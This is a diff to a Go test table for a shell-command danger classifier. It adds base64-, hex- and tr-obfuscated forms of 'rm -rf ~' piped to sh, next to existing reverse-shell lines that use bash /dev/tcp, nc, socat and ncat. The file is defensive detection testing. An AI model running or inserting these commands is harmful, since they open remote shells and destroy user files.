@@ -360,6 +360,13 @@ func TestCatalogue(t *testing.T) {
 		{"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", w("remote-access")},
 		{"sh -i 2>&1 | nc x.example 4444", w("remote-access")},
 		{"socat TCP:10.0.0.1:4444 EXEC:/bin/bash", w("remote-access")},
+		// decoders' options, read through their entries: the payload is
+		// decoded and judged in every spelling.
+		{"echo cm0gLXJmIH4K | base64 --dec | sh", w("remote-exec", "recursive-delete")},
+		{"echo cm0gLXJmIH4K | base64 -di | sh", w("remote-exec", "recursive-delete")},
+		{"echo 726d202d7266207e0a | xxd -revert -plain | sh", w("remote-exec", "recursive-delete")},
+		{"echo 726d202d7266207e0a | xxd -r -ps | sh", w("remote-exec", "recursive-delete")},
+		{"echo 'rmz -rfz ~' | tr --del z | sh", w("remote-exec", "recursive-delete")},
 		// netcat's exec options, read through the entries in every
 		// spelling and route.
 		{"ncat --exe /bin/sh 10.0.0.1 4444", w("remote-access")},
